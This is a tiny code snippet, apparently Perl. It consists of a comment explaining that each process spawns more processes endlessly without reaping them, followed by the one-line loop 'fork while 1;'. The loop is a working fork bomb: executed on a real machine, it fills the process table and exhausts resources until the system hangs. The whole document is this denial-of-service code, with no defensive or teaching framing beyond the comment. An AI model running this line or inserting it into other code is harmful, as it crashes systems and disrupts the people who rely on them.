# Every process starts more processes, for ever, and reaps none.
fork while 1;
